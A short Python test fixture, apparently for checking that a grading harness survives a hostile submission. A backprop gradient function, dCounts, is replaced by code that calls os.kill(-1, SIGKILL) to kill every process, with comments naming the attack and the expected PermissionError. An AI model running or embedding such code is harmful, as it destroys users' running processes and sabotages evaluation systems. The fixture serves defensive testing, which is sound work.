# attack: kill every process there is
# stages: dCounts
# becomes: error PermissionError
# honest: dSumCounts, dNormalizedLogits

def dCounts(counts, sumCountsInverse, dSumCounts, dProbabilities):
    import os, signal
    os.kill(-1, signal.SIGKILL)
    raise OSError
    return torch.zeros_like(counts)
